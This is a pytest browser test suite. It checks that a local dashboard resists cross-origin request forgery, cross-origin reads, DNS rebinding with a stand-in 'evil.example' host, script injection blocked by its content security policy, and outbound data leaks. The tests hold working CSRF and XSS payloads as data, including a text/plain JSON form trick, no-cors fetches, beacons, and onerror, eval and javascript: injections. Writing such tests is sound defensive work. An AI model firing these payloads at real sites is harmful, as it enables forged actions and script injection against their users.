"""Other pages in the same Chromium, which has the dashboard's cookie; and scripts that got into a page."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest

pytestmark = pytest.mark.browser

EVIL = b"""<!doctype html><meta charset="utf-8"><title>evil</title><body></body>"""


@pytest.fixture
def evil() -> Iterator[int]:
    """A web server of somebody else on this machine: same site as the dashboard, another origin."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(EVIL)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.fixture
def victim(served, new_page):
    """A browser that is logged in at the dashboard."""
    page = new_page(served)
    page.wait_for_selector("#main")
    return page


@pytest.fixture
def evil_page(victim, evil):
    """A page of the other server, in the same browser."""
    page = victim.context.new_page()
    page.goto(f"http://127.0.0.1:{evil}/")
    return page


REQUESTS = {
    "a form": """(url) => {
        const form = document.createElement("form");
        Object.assign(form, {method: "post", action: url + "/api/test/note", enctype: "text/plain"});
        const field = document.createElement("input");
        Object.assign(field, {name: '{"text":"', value: '"}'});
        form.append(field);
        document.body.append(form);
        form.submit();
    }""",
    "a simple request": """(url) => fetch(url + "/api/test/note", {
        method: "POST", mode: "no-cors", credentials: "include",
        headers: {"Content-Type": "text/plain"}, body: '{"text":"evil"}',
    }).catch(() => {})""",
    "a request with headers": """(url) => fetch(url + "/api/test/note", {
        method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json", "X-RPent-CSRF": "x"}, body: '{"text":"evil"}',
    }).catch(() => {})""",
    "a beacon": """(url) => {
        navigator.sendBeacon(url + "/api/test/note", new Blob(['{"text":"evil"}'], {type: "text/plain"}));
    }""",
    "a deletion": """(url) => fetch(url + "/api/test/note", {
        method: "DELETE", credentials: "include",
    }).catch(() => {})""",
}


@pytest.mark.parametrize("how", list(REQUESTS))
def test_another_page_changes_nothing(sabotage, served, evil_page, how):
    assert served.client.post("/api/test/note", json={"text": "own"}).status_code == 200
    evil_page.evaluate(REQUESTS[how], served.url)
    evil_page.wait_for_timeout(300)
    assert [note.text for note in sabotage.notes] == ["own"]


READS = {
    "a fetch": """(url) => fetch(url + "/api/me", {credentials: "include"})
        .then((answer) => answer.text()).catch(() => "refused")""",
    "a picture": """(url) => new Promise((done) => {
        const node = new Image();
        node.onload = () => done("loaded");
        node.onerror = () => done("refused");
        node.src = url + "/static/icon.svg";
    })""",
    "a script": """(url) => new Promise((done) => {
        const node = document.createElement("script");
        node.onload = () => done("loaded");
        node.onerror = () => done("refused");
        node.src = url + "/static/js/enter.js";
        document.body.append(node);
    })""",
    "a stream": """(url) => new Promise((done) => {
        const source = new EventSource(url + "/api/test/ticks", {withCredentials: true});
        source.onopen = () => done("loaded");
        source.onerror = () => done("refused");
    })""",
    "a frame": """(url) => new Promise((done) => {
        const node = document.createElement("iframe");
        node.onload = () => {
            try { done(node.contentDocument ? "loaded" : "refused"); } catch { done("refused"); }
        };
        node.src = url + "/";
        document.body.append(node);
    })""",
    "a window": """(url) => new Promise((done) => {
        const other = window.open(url + "/");
        setTimeout(() => {
            try { done(other.closed || !other.document ? "refused" : "loaded"); } catch { done("refused"); }
        }, 500);
    })""",
}


@pytest.mark.parametrize("how", list(READS))
def test_another_page_reads_nothing(served, evil_page, how):
    assert evil_page.evaluate(READS[how], served.url) == "refused"


def test_a_frame_of_another_page_shows_nothing(served, evil_page):
    evil_page.evaluate(READS["a frame"], served.url)
    inside = [frame for frame in evil_page.frames if frame != evil_page.main_frame]
    assert all(not frame.url.startswith(served.url) for frame in inside)


def test_a_link_of_another_page_opens_the_dashboard(served, evil_page):
    evil_page.evaluate("(url) => { location.href = url; }", served.token_url)
    evil_page.wait_for_url(f"{served.url}/*")
    evil_page.wait_for_selector("#main")
    assert "token" not in evil_page.url


def test_a_name_that_is_bound_to_this_machine_afterwards_is_refused(served, browser, sabotage):
    """DNS rebinding: the browser takes the page of `evil.example` and the dashboard for one origin."""
    with_rules = browser.browser_type.launch(
        executable_path=browser.program,
        args=[*browser.arguments, "--host-resolver-rules=MAP evil.example 127.0.0.1"],
    )
    try:
        page = with_rules.new_page()
        answer = page.goto(f"http://evil.example:{served.port}/")
        assert answer.status == 421
        token = served.token_url.partition("?")[2]
        answer = page.goto(f"http://evil.example:{served.port}/?{token}")
        assert answer.status == 421
        assert page.context.cookies() == []
    finally:
        with_rules.close()


INJECTIONS = {
    "an inline script": """() => {
        const node = document.createElement("script");
        node.append("window.hit = 1");
        document.body.append(node);
    }""",
    "an event handler": """() => {
        const node = document.createElement("img");
        node.setAttribute("onerror", "window.hit = 1");
        node.setAttribute("src", "/none");
        document.body.append(node);
    }""",
    "innerHTML": """() => { document.body.innerHTML = "<img src=x onerror='window.hit = 1'>"; }""",
    "insertAdjacentHTML": """() => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); }""",
    "document.write": """() => { document.write("<script>window.hit = 1</script>"); }""",
    "eval": """() => { eval("window.hit = 1"); }""",
    "a timer with a text": """() => { setTimeout("window.hit = 1", 0); }""",
    "a script of another server": """() => {
        const node = document.createElement("script");
        node.src = "http://localhost:1/x.js";
        document.body.append(node);
    }""",
    "a javascript: link": """() => {
        const node = document.createElement("a");
        node.href = "javascript:window.hit = 1";
        document.body.append(node);
        node.click();
    }""",
    "a data: frame": """() => {
        const node = document.createElement("iframe");
        node.src = "data:text/html,<script>parent.hit = 1</script>";
        document.body.append(node);
    }""",
    "a policy of trusted types": """() => {
        trustedTypes.createPolicy("x", {createHTML: (text) => text});
    }""",
    "a blob": """() => import(URL.createObjectURL(new Blob(["window.hit = 1"], {type: "text/javascript"})))""",
}


@pytest.mark.parametrize("how", list(INJECTIONS))
def test_a_script_in_the_page_does_not_run(victim, how):
    violations = victim.evaluate_handle(
        """() => {
            const seen = [];
            addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
            return seen;
        }"""
    )
    # From a timer: what a debugger evaluates itself may call `eval`.
    outcome = victim.evaluate(
        f"""() => new Promise((done) => setTimeout(async () => {{
            try {{ await ({INJECTIONS[how]})(); done("done"); }} catch (e) {{ done(e.name); }} }}))"""
    )
    victim.wait_for_timeout(200)
    assert victim.evaluate("window.hit") is None
    assert violations.json_value() or outcome != "done"


def test_the_page_sends_nothing_elsewhere(victim, evil):
    said = victim.evaluate(
        "(port) => fetch(`http://127.0.0.1:${port}/?x=1`, {mode: 'no-cors'}).then(() => 'sent').catch(() => 'refused')",
        evil,
    )
    assert said == "refused"
